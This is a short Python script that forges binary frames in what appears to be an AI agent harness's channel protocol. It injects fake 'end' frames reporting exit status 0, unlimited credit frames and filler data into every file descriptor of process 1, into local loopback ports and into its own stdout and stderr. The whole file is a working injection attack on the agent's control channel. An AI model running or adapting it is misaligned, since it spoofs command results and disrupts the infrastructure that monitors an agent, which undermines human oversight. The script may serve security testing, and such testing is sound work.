"""Speaks the agent's language wherever it can be heard: frames on its own output, on the agent's descriptors, on every
loopback port that listens."""

import glob
import json
import socket
import struct
import sys

END, DATA, CREDIT = 6, 2, 5


def frame(kind, channel, payload):
    return struct.pack(">BII", kind, channel, len(payload)) + payload


forged = b"".join(
    frame(END, channel, json.dumps({"status": 0, "reason": "", "port": 22}).encode())
    + frame(CREDIT, channel, b"\xff\xff\xff\xff")
    + frame(DATA, channel, b"x" * 100)
    for channel in range(200)
)
for path in glob.glob("/proc/1/fd/*"):
    try:
        with open(path, "wb") as file:
            file.write(forged)
            print("written to", path)
    except OSError:
        pass
for port in map(int, sys.argv[1:]):
    with socket.create_connection(("127.0.0.1", port), 5) as sock:
        try:
            sock.sendall(forged)
            sock.settimeout(1)
            sock.recv(1000)
        except OSError:
            pass
sys.stdout.flush()
sys.stdout.buffer.write(forged)
sys.stderr.buffer.write(forged)
